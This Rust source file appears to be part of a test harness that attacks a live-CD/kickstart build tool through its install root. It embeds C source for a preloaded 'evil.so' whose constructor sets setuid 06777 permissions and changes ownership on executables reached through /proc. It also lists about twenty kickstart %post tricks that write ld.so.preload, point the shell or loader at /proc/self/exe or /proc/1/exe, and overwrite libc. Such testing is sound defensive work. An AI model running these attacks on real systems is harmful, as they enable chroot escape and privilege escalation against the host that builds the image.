//! Every way from the root to the running program: what is executed first is made
//! a link to it, and a library of the root comes with whatever is executed.

use std::fs;

use super::site::Site;
use super::whole_run::Attack;
use crate::TaskResult;

/// Changes every executable that it finds a way to.
const LIBRARY: &str = r#"
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>
static void change(const char *path) {
    chmod(path, 06777);
    chown(path, 12345, -1);
    setxattr(path, "user.attack", "x", 1, 0);
    int file = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);
    if (file > 2) close(file);
    file = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    if (file > 2) { fchmod(file, 06777); close(file); }
}
static void each(const char *directory) {
    char path[600];
    DIR *open = opendir(directory);
    if (!open) return;
    for (struct dirent *entry; (entry = readdir(open));) {
        struct stat found;
        snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
        if (stat(path, &found) == 0 && S_ISREG(found.st_mode) && (found.st_mode & 0111)) change(path);
    }
    closedir(open);
}
__attribute__((constructor)) static void begin(void) {
    char path[100];
    change("/proc/self/exe");
    for (int process = 1; process < 40; process++) {
        snprintf(path, sizeof path, "/proc/%d/exe", process);
        change(path);
        snprintf(path, sizeof path, "/proc/%d/map_files", process);
        each(path);
        snprintf(path, sizeof path, "/proc/%d/fd", process);
        each(path);
    }
}
"#;

/// The way: what is done in the root, and the script that is run then.
const WAYS: &[(&str, &str, &str)] = &[
    ("shell-is-exe", "ln -sfn /proc/self/exe usr/bin/sh", "%post"),
    (
        "shell-is-exe-of-the-thread",
        "ln -sfn /proc/thread-self/exe usr/bin/sh",
        "%post",
    ),
    (
        "shell-is-exe-of-init",
        "ln -sfn /proc/1/exe usr/bin/sh",
        "%post",
    ),
    (
        "shell-is-exe-by-init",
        "ln -sfn /proc/1/root/proc/self/exe usr/bin/sh",
        "%post",
    ),
    (
        "shell-is-exe-through-two-links",
        "ln -s /proc/self exe; ln -sfn ../../exe/exe usr/bin/sh",
        "%post",
    ),
    (
        "shell-is-descriptor-3",
        "ln -sfn /proc/self/fd/3 usr/bin/sh",
        "%post",
    ),
    (
        "shell-is-descriptor-4",
        "ln -sfn /proc/self/fd/4 usr/bin/sh",
        "%post",
    ),
    (
        "shell-is-descriptor-5",
        "ln -sfn /dev/fd/5 usr/bin/sh",
        "%post",
    ),
    (
        "shell-is-descriptor-of-init",
        "ln -sfn /proc/1/fd/3 usr/bin/sh",
        "%post",
    ),
    (
        "interpreter-line",
        "rm usr/bin/sh; printf '#!/proc/self/exe\\n' > usr/bin/sh; chmod 755 usr/bin/sh",
        "%post",
    ),
    (
        "interpreter-line-of-init",
        "rm usr/bin/sh; printf '#!/proc/1/exe --version\\n' > usr/bin/sh; chmod 755 usr/bin/sh",
        "%post",
    ),
    (
        "interpreter-line-twice",
        "rm usr/bin/sh; printf '#!/usr/bin/other\\n' > usr/bin/sh; printf '#!/proc/self/exe\\n' > usr/bin/other; chmod 755 usr/bin/sh usr/bin/other",
        "%post",
    ),
    ("interpreter", "true", "%post --interpreter=/proc/self/exe"),
    (
        "interpreter-of-init",
        "true",
        "%post --interpreter=/proc/1/exe",
    ),
    (
        "interpreter-is-a-descriptor",
        "true",
        "%post --interpreter=/proc/self/fd/3",
    ),
    (
        "loader",
        "for l in usr/lib*/ld-linux* lib*/ld-linux*; do [ -e $l ] && ln -sfn /proc/self/exe $l; done; true",
        "%post",
    ),
    (
        "loader-of-init",
        "for l in usr/lib*/ld-linux* lib*/ld-linux*; do [ -e $l ] && ln -sfn /proc/1/exe $l; done; true",
        "%post",
    ),
    (
        "library",
        "for l in $(find usr/lib* -name 'libc.so.6'); do cp opt/evil.so $l; done",
        "%post",
    ),
    ("preload-and-map-files", "true", "%post"),
    ("preload-of-scripts-outside", "true", "%post --nochroot"),
];

pub(super) fn attacks() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for &(name, prepare, script) in WAYS {
        attacks.push(Attack::new(
            format!("running-program/{name}"),
            |site| {
                library(site)?;
                site.run("LD_PRELOAD=$PWD/evil.so bin/livecd-creator --version", &[])?;
                Ok(site.intact().is_err())
            },
            move |site| {
                library(site)?;
                let text = format!(
                    "%post --nochroot --interpreter=/bin/sh\n\
                     cd $INSTALL_ROOT && mkdir -p opt etc && cp {}/evil.so opt/ && \
                     echo /opt/evil.so > etc/ld.so.preload && {{ {prepare}; }}\n%end\n\
                     {script}\necho harmless\n%end\n%post --interpreter=/usr/bin/busybox\ntrue\n%end\n",
                    site.directory.display()
                );
                Ok(site.build(&text, "")?.ended())
            },
        ));
    }
    attacks
}

fn library(site: &Site) -> TaskResult {
    if !site.path("evil.so").exists() {
        fs::write(site.path("evil.c"), LIBRARY)?;
        site.shell(
            "cc -shared -fPIC -w -o evil.so evil.c; chmod 755 evil.so",
            &[],
        )?;
    }
    site.shell(
        "chmod 755 bin/livecd-creator; chown --reference=bin/kstool bin/livecd-creator",
        &[],
    )?;
    Ok(())
}
